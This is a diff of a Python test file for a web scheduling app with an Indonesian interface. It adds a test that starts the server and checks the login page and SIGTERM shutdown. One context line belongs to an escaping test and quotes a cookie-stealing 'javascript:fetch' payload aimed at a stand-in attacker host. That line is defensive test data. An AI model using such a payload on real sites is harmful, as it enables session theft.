@@ -383,3 +383,34 @@ async def test_a_remote_url_that_is_not_http_is_shown_as_text_never_as_a_link(ap
         detail = (await client.get(f"/posts/{post_id}")).text
         assert "javascript:fetch(&#39;//evil.example/&#39;+document.cookie)" in detail
         assert "terbit" in detail  # the state in words, in Indonesian
+
+
+def test_run_web_serves_the_app_alone_and_stops_on_sigterm(promo_env: Any, tmp_path: Path) -> None:
+    """What `promo web` runs: the app without the service, in the foreground, until a signal."""
+    import signal
+
+    from tests.helpers import wait_for
+
+    env = {**promo_env(), "PATH": os.environ.get("PATH", "/usr/bin")}
+    subprocess.run([sys.executable, "-m", "scheduler.cli", "db", "upgrade"], env=env, cwd=tmp_path, check=True,
+                   capture_output=True)
+    port = free_port()
+    code = f"from scheduler.config import load_settings; from scheduler.web import run_web; " \
+           f"run_web(load_settings(), '127.0.0.1', {port})"
+    server = subprocess.Popen([sys.executable, "-c", code], env=env, cwd=tmp_path, stdout=subprocess.PIPE,
+                              stderr=subprocess.STDOUT, text=True)
+    try:
+        def login_page() -> httpx.Response | None:
+            try:
+                return httpx.get(f"http://127.0.0.1:{port}/login", timeout=5, trust_env=False)
+            except httpx.TransportError:
+                return None
+
+        page = wait_for(login_page, 30, "the web app")
+        assert page.status_code == 200 and "Masuk" in page.text
+        assert httpx.get(f"http://127.0.0.1:{port}/api/v1/status", trust_env=False).status_code == 401
+    finally:
+        server.send_signal(signal.SIGTERM)
+        output, _ = server.communicate(timeout=30)
+    assert server.returncode == 0, output
+    assert "Traceback" not in output
